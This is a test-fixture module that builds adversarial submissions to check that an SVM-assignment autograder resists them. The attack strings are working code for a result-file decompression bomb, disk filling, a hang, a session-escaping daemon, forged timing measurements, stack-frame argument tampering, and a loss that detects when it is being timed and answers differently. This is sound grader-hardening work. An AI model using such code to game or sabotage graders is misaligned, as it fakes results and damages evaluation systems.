"""The eleven attacks of issue 16, as submissions built on the wrong baseline (shared by the tests).

The wrong baseline: ``svm_loss_vectorized`` returns ``(0.0, zeros)``. Each attack keeps that bug
and adds its attack; graded, it must score at most what the baseline (or, for the speed forgery,
the same slow code without the forgery) scores.
"""

from __future__ import annotations

from pathlib import Path

from grading_subs import make_submission

WRONG = ("def svm_loss_vectorized(W, X, y, reg, delta=1.0, squared=False):\n"
         "    import numpy as np\n    return 0.0, np.zeros_like(W)\n")
ANCHOR = "from cs231n_lin._validation"

# Attack 4: at exit, every result .npz is replaced by a 1 KB bzip2 file declaring 1 GiB of float64.
RESULT_BOMB = '''
import atexit as _atexit, json as _json, os as _os, sys as _sys
def _bomb():
    try:
        cfg = _json.load(open(_sys.argv[1]))
    except Exception:
        return
    import io, zipfile, numpy as np
    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(hdr, {"descr": "<f8", "fortran_order": False, "shape": (2**27,)})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_BZIP2) as zf:
        with zf.open("ret.npy", "w", force_zip64=True) as f:
            f.write(hdr.getvalue())
            for _ in range(64):
                f.write(bytes(2**24))
    for t in cfg.get("tasks", []):
        p = _os.path.join(cfg["out_dir"], t["id"])
        open(p + ".npz", "wb").write(buf.getvalue())
        open(p + ".json", "w").write(_json.dumps({"id": t["id"], "ok": True,
            "returned": {"kind": "tuple", "items": [{"kind": "float", "value": 1.0},
                                                    {"kind": "array", "key": "ret"}]}}))
_atexit.register(_bomb)
'''

# Attack 5: fill the disk from the scratch copy.
DISK_FILL = '''
import os as _os
for _i in range(16):
    try:
        _fd = _os.open(f"fill{_i}.bin", _os.O_WRONLY | _os.O_CREAT, 0o644)
        _os.posix_fallocate(_fd, 0, 64 * 2**20)
        _os.close(_fd)
    except OSError:
        break
'''

# Attack 7: the driver's task loop replaced by a sleep (every restart would wait out its limit).
SERIAL_HANG = '''
import sys as _sys, time as _time
_main = _sys.modules.get("__main__")
if _main is not None and hasattr(_main, "_run_task"):
    _main._run_task = lambda *a, **k: _time.sleep(1000)
'''

# Attack 8: a daemon that leaves the session and outlives the run (and would edit the next scratch).
DAEMON = '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(600):
            try:
                with open({marker!r}, "a") as _f:
                    _f.write("x")
            except OSError:
                pass
            _time.sleep(0.1)
        _os._exit(0)
    _os._exit(0)
'''

# Attack 3: a loop-based "vectorized" loss that forges the speed measurement made in its process.
LOOP_SVM = '''def svm_loss_vectorized(W, X, y, reg, delta=1.0, squared=False):
    import numpy as np
    loss, dW = 0.0, np.zeros_like(W)
    n = X.shape[0]
    for i in range(n):
        s = X[i] @ W
        m = np.maximum(0, s - s[y[i]] + delta)
        m[y[i]] = 0
        loss += m.sum()
        g = (m > 0).astype(W.dtype)
        g[y[i]] = -g.sum()
        dW += np.outer(X[i], g)
    return float(loss / n + reg * np.sum(W * W)), dW / n + 2 * reg * W
'''
FORGE_PERF = '''
import sys as _sys
class _Forger:
    def find_spec(self, *a, **k):
        for name in ("grader_perf",):
            mod = _sys.modules.get(name)
            if mod is not None:
                mod.measure = lambda fn, **kw: {"ratio": 1.0, "ratio_median": 1.0, "extra_memory_ratio": 0.0,
                                                "lines_per_example": 0.0, "error": None, "N": 1, "D": 1}
        return None
_sys.meta_path.insert(0, _Forger())
for _name in ("grader_perf",):
    if _name in _sys.modules:
        _sys.modules[_name].measure = lambda fn, **kw: {"ratio": 1.0, "error": None}
'''

# Attack 10: LinearSVM.fit trains with the softmax loss (accurate, but not the SVM).
# Attack 11: the driver's argument W overwritten with a string array.
TAMPER_ARGS = '''def svm_loss_vectorized(W, X, y, reg, delta=1.0, squared=False):
    import sys
    import numpy as np
    frame = sys._getframe(1)
    while frame is not None:
        if isinstance(frame.f_locals.get("args"), dict) and "W" in frame.f_locals["args"]:
            frame.f_locals["args"]["W"] = np.array(["a"] * W.size)
        frame = frame.f_back
    return 0.0, np.zeros_like(W)
'''


def _prelude(sub: Path, code: str, module: str = "linear_svm.py") -> Path:
    path = sub / "cs231n_lin" / "classifiers" / module
    text = path.read_text()
    path.write_text(text.replace(ANCHOR, code + "\n" + ANCHOR, 1))
    return sub


def wrong_baseline(dest: Path) -> Path:
    return make_submission(dest, replace={"svm_loss_vectorized": WRONG})


def build(dest: Path, marker: str) -> dict[str, Path]:
    """The package-level attacks (3 needs a perf case; 8 is in its own test), by name."""
    subs = {
        "baseline": wrong_baseline(dest / "baseline"),
        "a04_result_bomb": _prelude(wrong_baseline(dest / "a04"), RESULT_BOMB),
        "a05_disk_fill": _prelude(wrong_baseline(dest / "a05"), DISK_FILL),
        "a07_serial_hang": _prelude(wrong_baseline(dest / "a07"), SERIAL_HANG),
        "a08_daemon": _prelude(wrong_baseline(dest / "a08"), DAEMON.format(marker=marker)),
        "a11_tamper_args": make_submission(dest / "a11", replace={"svm_loss_vectorized": TAMPER_ARGS}),
    }
    a10 = wrong_baseline(dest / "a10")
    lc = a10 / "cs231n_lin" / "classifiers" / "linear_classifier.py"
    text = lc.read_text()
    assert "self.loss(" in text
    head, sep, rest = text.partition("    def fit(")
    fit, sep2, tail = rest.partition("\n    def ")
    fit = fit.replace("self.loss(W, X_batch, y_index[idx])",
                      "__import__('cs231n_lin.classifiers.softmax', fromlist=['_'])"
                      ".softmax_loss_vectorized(W, X_batch, y_index[idx], self.reg)")
    assert "softmax_loss_vectorized" in fit
    lc.write_text(head + sep + fit + sep2 + tail)
    subs["a10_fit_with_softmax"] = a10
    # Attack 6: a file whose name is not valid UTF-8 in a directory submission.
    a06 = wrong_baseline(dest / "a06")
    with open(bytes(a06) + b"/notes-\xff\xfe.txt", "wb") as f:
        f.write(b"bad name")
    subs["a06_bad_file_name"] = a06
    return subs

# Issue 20: a correct but slow svm_loss_vectorized (it calls the naive loss) that answers zeros, fast,
# whenever it believes it is being timed: the old timed run's folder name, any hint in its task list,
# or the large timed problem.
SLOW_SVM = '''def svm_loss_vectorized(W, X, y, reg, delta=1.0, squared=False):
    from cs231n_lin.classifiers.linear_svm import svm_loss_naive
    return svm_loss_naive(W, X, y, reg, delta, squared)
'''
TIMED_DETECTOR = '''def svm_loss_vectorized(W, X, y, reg, delta=1.0, squared=False):
    import json, os, sys
    import numpy as np
    hints = " ".join(sys.argv) + " " + os.getcwd()
    try:
        hints += open(sys.argv[1]).read()[:100000]
    except Exception:
        pass
    if "io-repeat-" in hints or '"repeat"' in hints or X.shape[0] >= 500:
        return 0.0, np.zeros_like(W)
    from cs231n_lin.classifiers.linear_svm import svm_loss_naive
    return svm_loss_naive(W, X, y, reg, delta, squared)
'''
